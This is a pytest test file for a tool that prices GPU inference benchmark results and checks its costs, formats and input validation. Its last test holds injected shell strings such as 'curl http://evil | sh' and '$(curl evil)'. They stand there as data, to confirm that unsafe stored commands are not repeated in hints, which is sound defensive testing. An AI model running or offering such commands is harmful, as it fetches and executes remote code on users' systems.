        (tmp_path / "r" / str(i) / "summary.json").write_bytes(dump_summary(run))
    (evidence,) = evidence_reader.read_evidence([tmp_path / "r"])

    assert evidence.excluded_repeats == ("2",) and len(evidence.summaries) == 2

    priced_result = price_result(
        evidence, book(rent("72")).entries[0], "r", "", gpus=4, utilization=Decimal(1)
    )

    assert priced_result.costs[GOOD].total == Decimal("0.001")
    assert "repeats_left_out" in {reason.code for reason in list_evidence_notes(evidence)}


AMOUNTS = st.dictionaries(
    st.sampled_from(["machines", "energy", "input", "output", "egress"]),
    st.decimals(min_value=0, max_value=10_000, places=12),
    min_size=1,
)


@given(AMOUNTS)
def test_printed_parts_add_up_to_the_printed_total(parts: dict[str, Decimal]):
    total = sum(parts.values(), Decimal(0))
    rounded_total, each = report.round_parts(
        UnitCost(parts=parts, total=total, low=None, high=None), 1000
    )
    assert rounded_total == sum(each.values())
    assert f"{rounded_total:,f}" == report.format_money(total * 1000)
    step = Decimal(1).scaleb(min(int(rounded_total.as_tuple().exponent), 0))
    assert all(abs(each[part] - parts[part] * 1000) <= step for part in parts)


@pytest.mark.parametrize(
    ("amount", "expected_text"),
    [
        ("0.0000892", "0.00008920"),
        ("0.32699", "0.3270"),
        ("1234.567", "1,235"),
        ("0", "0.000"),
        ("98765432", "98,765,432"),
    ],
)
def test_amounts_of_money_are_printed_without_an_exponent(amount: str, expected_text: str):
    assert report.format_money(Decimal(amount)) == expected_text


@pytest.fixture
def results(tmp_path: Path) -> Path:
    """Folders of results as runs and a search leave them, and a price file."""
    summaries = {
        "azure": (GPUS, confirmed_capacity(21.4, 20.9, 21.9)),
        "other": (
            changed(GPUS, target={"shape": "gb200-4x"}, run={"seed": 3}),
            confirmed_capacity(18.4, 17.9, 18.9),
        ),
        "api": (
            changed(GPUS, target={"shape": "", "gpus": None, "model": "m", "url": "https://a/v1"}),
            None,
        ),
        "broken": (API, None),
    }
    for name, (summary, capacity) in summaries.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "summary.json").write_bytes(dump_summary(summary))
        if capacity is not None:
            (tmp_path / name / "capacity.json").write_bytes(dump_capacity(capacity))
    (tmp_path / "prices.yaml").write_text(
        """
currency: USD
rented:
  - {provider: Azure, shape: ND128isr_GB300_v6, gpu: GB300, gpus: 4, per_hour: 56, as_of: 2025,
     source: a & <b>}
  - {provider: Other, shape: gb200-4x, gpu: GB200, gpus: 4, per_gpu_hour: 10.50, as_of: 2025,
     source: c}
per_token:
  - {provider: API, model: m, per_million_input: 0.7, per_million_cached: 0.3,
     per_million_output: 0.7, as_of: 2025, source: d}
  - {provider: API, model: example-large, per_million_input: 0.7, per_million_output: 0.7,
     as_of: 2025, source: d}
"""
    )
    return tmp_path


def test_the_cost_command_prints_the_same_numbers_in_every_format(
    results: Path, capsys: pytest.CaptureFixture[str]
):
    folders, book_at = (
        [results / name for name in ("azure", "other", "api")],
        results / "prices.yaml",
    )
    page = results / "page.html"
    printed = {}
    for form in ("as_json", "as_markdown", "as_csv", "as_text"):
        how = {form: True} if form != "as_text" else {"html": page}
        assert command(folders, prices=book_at, utilization="1", **how) == 0  # type: ignore[arg-type]
        printed[form] = capsys.readouterr().out
    document = json.loads(printed["as_json"])
    costs = {offer["name"]: offer["costs"] for offer in document["offers"]}

    assert costs["azure"]["request"]["total"] == "0.000726895119"  # 56 / 3600 / 21.4
    assert costs["other"]["million_output_tokens"]["total"] == "0.528381642512"
    assert [pair["judgement"] for pair in document["pairs"]] == [
        "other is cheaper",
        "azure is cheaper",
        "other is cheaper",
    ]

    lines = {
        (row["offer"], row["unit"], row["part"]): row
        for row in csv.DictReader(io.StringIO(printed["as_csv"]))
    }
    for name, units in costs.items():
        for unit in UNITS:
            if units[unit] is not None:
                assert Decimal(lines[name, unit, "total"]["amount"]) == Decimal(
                    units[unit]["total"]
                )
                parts = [
                    Decimal(row["amount"])
                    for key, row in lines.items()
                    if key[:2] == (name, unit) and key[2] != "total"
                ]
                assert sum(parts) == Decimal(units[unit]["total"])

    for form in ("as_text", "as_markdown"):
        assert (
            "0.7269" in printed[form]
            and "other is cheaper" in printed[form]
            and "at this load" in printed[form]
        )
    html = page.read_text()
    assert "0.7269" in html and "a &amp; &lt;b&gt;" in html
    assert "http" not in html.split("<main>")[1].split("</main>")[0].replace("https://a", "")

    for start in html.split('<div class="bars">')[1:]:
        bars = ET.fromstring("<div>" + start.split("</div></div>")[0] + "</div></div>")
        for bar in bars.iter("i"):
            left, width = (
                float(part.split(":")[1][:-1]) for part in bar.get("style", "").split(";")[:2]
            )
            assert 0 <= left <= left + width <= 100.01


def test_an_invalid_result_is_refused_with_its_line_and_marked_when_allowed(
    results: Path, capsys: pytest.CaptureFixture[str]
):
    with refused(CombinedError, "unsound", "verdict.valid") as exc_info:
        command([results / "broken"], prices=results / "prices.yaml", utilization="1")
    assert exc_info.value.exit_code == 3

    at = exc_info.value.errors[0].where
    line = int(at.removeprefix(str(results / "broken" / "summary.json:")).split(":")[0])
    assert (
        '"valid": false' in (results / "broken" / "summary.json").read_text().splitlines()[line - 1]
    )
    assert (
        command(
            [results / "broken"],
            prices=results / "prices.yaml",
            utilization="1",
            allow_invalid=True,
        )
        == 0
    )
    assert "INVALID" in capsys.readouterr().out


def test_a_sweep_in_which_no_load_met_the_slo_has_no_capacity_to_price(tmp_path: Path) -> None:
    """Its levels were called "no repeats of each other", which is true and no help."""
    for rate in (5, 6):
        missed = changed(GPUS, load={"arrival": f"poisson {rate}/s"}, goodput={"met": False})
        (tmp_path / f"r{rate}").mkdir()
        (tmp_path / f"r{rate}" / "summary.json").write_bytes(dump_summary(missed))
        (tmp_path / f"r{rate}" / "run.json").write_text("{}")
    with refused(CombinedError, "unsound") as exc_info:
        evidence_reader.read_evidence([tmp_path])
    assert exc_info.value.exit_code == 3 and "none of these loads" in str(exc_info.value)


def test_a_result_that_counted_no_tokens_is_refused_with_its_line(results: Path):
    bare = changed(GPUS, tokens={"output": None})
    (results / "azure" / "summary.json").write_bytes(dump_summary(bare))
    with refused(CombinedError, "no_figure", "tokens.output") as exc_info:
        evidence_reader.read_evidence([results / "azure"])
    assert "summary.json:" in exc_info.value.errors[0].where


@pytest.mark.parametrize(("responses", "is_refused"), [(1, False), (100, True)])
def test_contradicting_token_counts_are_no_basis_of_a_cost(
    results: Path, responses: int, is_refused: bool
):
    values = {"responses": responses, "ok": 294, "remark": f"{CONTRADICTORY_USAGE}: more cached"}
    warning = ReasonCode(code="responses_remarked", values=values)
    doubtful = changed(GPUS, verdict={"warning_codes": (warning,), "warnings": ("x",)})
    (results / "azure" / "summary.json").write_bytes(dump_summary(doubtful))

    if is_refused:
        with refused(CombinedError, "unsound", "verdict.warnings"):
            evidence_reader.read_evidence([results / "azure"])
    else:
        evidence_reader.read_evidence([results / "azure"])


def test_an_embeddings_endpoint_has_a_price_without_output_tokens(results: Path):
    """It was told to run against a server that reports usage, which no such server has."""
    none = {
        "output": 0,
        "steady_output_per_s": 0.0,
        "sources": msgspec.structs.replace(GPUS.tokens.sources, output={}),
    }
    numbers = changed(GPUS, tokens=none, run={"api": "embeddings"})
    (results / "azure" / "summary.json").write_bytes(dump_summary(numbers))
    (evidence,) = evidence_reader.read_evidence([results / "azure"])
    costs = price_result(
        evidence, book(rent("36")).entries[0], "x", "", gpus=4, utilization=Decimal(1)
    ).costs

    assert costs[REQUEST] and costs.get(OUTPUT) is None


@pytest.mark.parametrize(
    ("how", "code"),
    [
        ({"prices": None}, "missing_option"),
        ({"utilization": "0"}, "invalid_value"),
        ({"utilization": "140%"}, "invalid_value"),
        ({"price": ["azure"]}, "unknown_name"),  # of a single result the name alone will do
        ({"price": ["azur=Azure ND128isr_GB300_v6"]}, "unknown_name"),
        ({"gpus": ["azure=many"]}, "invalid_value"),
        ({"currency": "EUR"}, "no_exchange_rate"),
        ({"currency": "euros"}, "invalid_value"),
        ({"as_json": True, "as_csv": True}, "conflict"),
    ],
)
def test_invalid_options_of_cost_are_refused(results: Path, how: dict[str, Any], code: str):
    flags: dict[str, Any] = {"prices": results / "prices.yaml", "utilization": "1", **how}
    with refused((UserError, CombinedError), code):
        command([results / "azure"], **flags)


@pytest.mark.parametrize(
    ("folders", "code"),
    [
        (["nowhere"], "missing_file"),
        (["."], "mismatch"),
        (["azure", "azure/../azure"], "duplicate"),
        (["azure", "azure"], "duplicate"),
    ],
)
def test_cost_refuses_folders_without_a_result(results: Path, folders: list[str], code: str):
    with refused(CombinedError, code):
        evidence_reader.read_evidence([results / folder for folder in folders], allow_invalid=True)


def test_errors_of_all_results_are_reported_together(results: Path):
    with pytest.raises(CombinedError) as exc_info:
        evidence_reader.read_evidence([results / "nowhere", results / "broken", results / "azure"])
    assert len(exc_info.value.errors) == 2


def test_a_single_result_accepts_the_name_of_a_price(
    results: Path, capsys: pytest.CaptureFixture[str]
):
    how = {"prices": results / "prices.yaml", "utilization": "1"}
    assert command([results / "azure"], price=["azure=Azure ND128isr_GB300_v6"], **how) == 0
    stdout = capsys.readouterr().out
    assert command([results / "azure"], price=["Azure ND128isr_GB300_v6"], **how) == 0
    assert capsys.readouterr().out == stdout
    with pytest.raises(UserError, match="--price"):
        command([results / "azure", results / "other"], price=["Azure ND128isr_GB300_v6"], **how)


def test_a_killed_run_has_a_hint_how_to_create_its_summary(tmp_path: Path):
    (tmp_path / "killed").mkdir()
    (tmp_path / "killed" / "run.json").touch()
    with pytest.raises(CombinedError) as exc_info:
        evidence_reader.read_evidence([tmp_path / "killed"])
    assert (
        f"loadgen report {shlex.quote(str(tmp_path / 'killed'))} --json >"
        in exc_info.value.errors[0].hint
    )


def test_sample_prices_are_marked_as_a_sample(results: Path, capsys: pytest.CaptureFixture[str]):
    how = {"accept_sample_prices": True, "price": ["azure=oracle-gb300"], "utilization": "1"}
    assert command([results / "azure"], prices=None, **how) == 0  # type: ignore[arg-type]
    out = capsys.readouterr().out
    assert out.startswith("SAMPLE PRICES: ")
    assert command([results / "azure"], prices=None, full=True, **how) == 0  # type: ignore[arg-type]
    assert "third-party transcription" in capsys.readouterr().out


def test_a_simulated_result_is_marked_first_and_at_its_numbers():
    simulated = priced(changed(GPUS, target={"simulated": True}), rent("60"), name="sim")
    text = printed(compare_costs([simulated], book(rent("60"))))
    assert text.startswith("SIMULATED: ")
    assert f"at this load, {GPUS.load.steady_completed_rps:.1f} req/s, simulated" in text
    assert "not the capacity" in brief(simulated)


def brief(*results: PricedResult, entries: prices.Prices | None = None) -> str:
    """Return what a terminal shows by default, in one line."""
    cost_comparison = compare_costs(results, entries or book(rent("60")))
    return " ".join(as_text.render(sections_of(cost_comparison), full=False).split())


def test_a_cost_ratio_says_which_result_is_divided_by_which() -> None:
    a = priced(GPUS, rent("60"), capacity=knee(20, 19, 21), name="a")
    b = priced(GPUS, rent("70"), capacity=knee(20, 19, 21), name="b")
    text = brief(a, b)
    assert "a costs 0.8571 times as much as b per good request" in text
    assert "(95 % CI 0.79" in text and "0.8571 [" not in text
    assert "95 % CI in brackets" in text


def test_the_commitment_of_each_price_is_next_to_the_machines() -> None:
    on_demand = priced(GPUS, rent("60", commitment="on demand"), name="a")
    one_year = priced(GPUS, rent("50", commitment="1 year"), name="b")
    text = brief(on_demand, one_year)
    assert "60.00 per hour, on demand" in text
    assert "50.00 per hour, 1 year" in text


def test_only_exchange_rates_of_used_prices_are_printed() -> None:
    dollars = "provider: P, shape: s1, gpu: G, gpus: 4, per_hour: 60, as_of: 2026-11-01, source: s"
    euros = dollars.replace("s1", "s2") + ", currency: EUR"
    exchange = "{from: EUR, to: USD, rate: 1.10, as_of: 2026-11-01, source: s}"
    text = f"currency: USD\nexchange: [{exchange}]\nrented: [{{{dollars}}}, {{{euros}}}]"
    entries = price_file.parse_prices(text, "prices.yaml", today=TODAY, env={})
    assert len(entries.exchanged) == 1
    in_dollars, in_euros = (
        price_result(
            Evidence(name="x", folder="x", summaries=(GPUS,)),
            price,
            "x",
            "prices.yaml",
            gpus=4,
            utilization=Decimal(1),
        )
        for price in entries.entries
    )

    assert "1 EUR" not in brief(in_dollars, entries=entries)
    assert "1 EUR = 1.1 USD" in brief(in_euros, entries=entries).replace("1.10", "1.1")


def test_tables_of_many_offers_fit_the_terminal():
    many_priced_results = [priced(GPUS, rent("60"), name=f"results/number-{i}") for i in range(9)]
    text = printed(compare_costs(many_priced_results, book(rent("60"))))
    tables = [
        line
        for line in text.splitlines()
        if line.startswith(("USD per", "1,000 requests", "total"))
    ]

    assert len(tables) > 3 and all(len(line) <= 100 for line in tables)
    assert all(sum(f"number-{i}" in line for line in tables) == 2 for i in range(9))


def test_cache_writes_are_included_in_the_cost():
    plain = (
        "per_token: provider: P, model: m, per_million_input: 1, "
        "per_million_output: 5, per_million_cached: 0.1"
    )
    priced_result, other = (
        priced(GPUS, f"{plain}, per_million_cache_write: 1.25"),
        priced(GPUS, plain),
    )
    written_unit_cost, fresh = priced_result.costs[REQUEST], other.costs[REQUEST]

    assert written_unit_cost and fresh
    assert (
        written_unit_cost.parts["cache_write"] == fresh.parts["input"] * Decimal("1.25")
        and "input" not in written_unit_cost.parts
    )
    assert {
        name: amount for name, amount in written_unit_cost.parts.items() if name != "cache_write"
    } == {name: amount for name, amount in fresh.parts.items() if name != "input"}
    assert "all_written" in noted(priced_result) and "all_written" not in noted(other)

    half = (
        GPUS.tokens.input or 0
    ) // 2  # where answers tell what was written, that is billed so, and nothing else
    summary = msgspec.structs.replace(
        GPUS, tokens=msgspec.structs.replace(GPUS.tokens, cache_written=half)
    )
    known_priced_result = priced(summary, f"{plain}, per_million_cache_write: 1.25")
    parts = known_priced_result.costs[REQUEST].parts

    assert parts["cache_write"] == Decimal(half) * Decimal("1.25") / 10**6 / GPUS.requests.ok
    assert parts["input"] + parts["cache_write"] / Decimal("1.25") == fresh.parts["input"]
    assert "all_written" not in noted(known_priced_result)


def test_a_commitment_is_cheaper_above_a_share_of_hours():
    """60 per hour for a year, 90 on demand, and spot at 50 of which a fifth is lost: 62.5."""
    year, called = rent("60", commitment="1 year"), rent("90", commitment="on demand")
    spot = rent("50", commitment="spot", lost_share="0.2")
    offers = [
        replace(priced(GPUS, entry), name=name)
        for name, entry in (("y", year), ("d", called), ("s", spot))
    ]

    assert offers[2].hourly_cost_parts == {"rent": Decimal(50), "interruptions": Decimal("12.5")}
    cost_comparison = compare_costs(offers, book(year))
    assert [
        (
            commitment_comparison.committed,
            commitment_comparison.on_demand,
            commitment_comparison.hours_share,
        )
        for commitment_comparison in cost_comparison.commitments
    ] == [
        ("y", "d", Decimal(60) / 90),
        ("y", "s", Decimal("0.96")),
    ]
    assert "more than 66.7 % of all hours" in printed(cost_comparison)

    dear = [replace(priced(GPUS, rent("70", commitment="3 years")), name="t"), offers[2]]
    (never,) = compare_costs(dear, book(year)).commitments
    assert never.hours_share is None and never.judgment.startswith("never costs less")
    elsewhere = replace(offers[2], price=offers[2].price.model_copy(update={"provider": "Q"}))
    assert not compare_costs([offers[0], elsewhere], book(year)).commitments


BOUGHT = "owned: shape: s, gpu: G, gpus: 4, capital: 87600, years: 2, staff_share: 0.1, "
BOUGHT += "energy: {watts: 8000, pue: 1.25, per_kwh: 0.1, counted: hourly}"


def test_storage_support_and_interest_are_included_in_the_cost():
    """73 a month is 0.1 an hour; 87,600 over two years at 10 % is 50,474.29 a year."""
    priced_result = priced(
        GPUS, f"{BOUGHT}, storage_per_month: 73, support_per_month: 146, discount: 0.1"
    )

    assert (
        priced_result.hourly_cost_parts["storage"],
        priced_result.hourly_cost_parts["support"],
    ) == (
        Decimal("0.1"),
        Decimal("0.2"),
    )
    assert float(priced_result.hourly_cost_parts["capital"] * 8760) == pytest.approx(
        50474.29, abs=0.01
    )
    rented = priced(GPUS, rent("10", storage_per_month="73"))
    assert rented.hourly_cost_parts == {"rent": 10, "storage": Decimal("0.1")}


def test_yearly_costs_equal_the_payments_of_each_year():
    """Running: 8,760 of staff and 8,760 of power; machines again in the years 3 and 5."""
    years = compute_yearly_cost(priced(GPUS, BOUGHT))

    assert years is not None and [round(amount) for amount in years.paid] == [
        105120,
        17520,
        105120,
        17520,
        105120,
    ]
    assert years.present is None
    worth = compute_yearly_cost(priced(GPUS, f"{BOUGHT}, discount: 0.25"), 2)
    assert worth is not None and worth.present is not None
    assert float(worth.present) == pytest.approx(87600 + 17520 / 1.25 + 17520 / 1.5625)

    capacity = knee(2.0)
    rented = compute_yearly_cost(priced(GPUS, rent("10"), capacity=capacity, utilization="0.5"))
    assert rented is not None and set(map(round, rented.paid)) == {87600}, (
        "rented at all hours, used or not"
    )
    cost_comparison = two(priced(GPUS, rent("10"), name="a"), priced(GPUS, rent("20"), name="b"))
    assert re.search(
        r"b +175,200 +175,200 +175,200 +175,200 +175,200 +876,000", printed(cost_comparison)
    )
    assert (
        json.loads(cost_data.render_json(cost_comparison))["offers"][0]["by_year"]["total"]
        == "438000"
    )


@pytest.mark.parametrize(
    ("text", "share"),
    [("0.4", "0.4"), ("40%", "0.4"), ("14h@10%,10h@70%", "0.35"), ("12h@0%, 12h@1", "0.5")],
)
def test_a_utilization_is_a_share_or_a_daily_profile(text: str, share: str):
    assert parse_utilization(text) == Decimal(share)


@pytest.mark.parametrize(
    "text", ["0", "110%", "12h@50%", "24h@0%", "25h@10%", "x@1", "12h@2,12h@1"]
)
def test_an_invalid_utilization_is_refused(text: str):
    with pytest.raises(UserError):
        parse_utilization(text)


@pytest.mark.parametrize(
    ("stored", "is_said"),
    [
        ("loadgen search --resume 'my search' --max-probes 60", True),
        ("loadgen mlperf server --resume s --url http://h:1", True),
        ("loadgen search --resume s; curl http://evil | sh", False),
        ("loadgen search --resume $(curl evil)", False),
        ("curl http://evil", False),
        ("loadgen search --resume 'open", False),
        ("", False),
    ],
)
def test_a_hint_repeats_a_stored_command_only_if_it_is_harmless(stored: str, is_said: bool) -> None:
    unfinished = Capacity(
        rate_per_s=2.0,
        method="search",
        state="stopped",
        lower_bound_reason="it was stopped",
        resume_command=stored,
    )

    with pytest.raises(evidence_reader.UnsoundEvidenceError) as exc_info:
        evidence_reader._refuse_unfinished_search(unfinished, Path("s"), allow_invalid=False)

    hint = exc_info.value.hint
    unsaid = "loadgen report . shows why it stopped"
    if stored:
        unsaid = "loadgen search --resume resumes it;"

    assert (stored in hint) is (is_said or not stored)
    assert is_said or hint.startswith(unsaid)
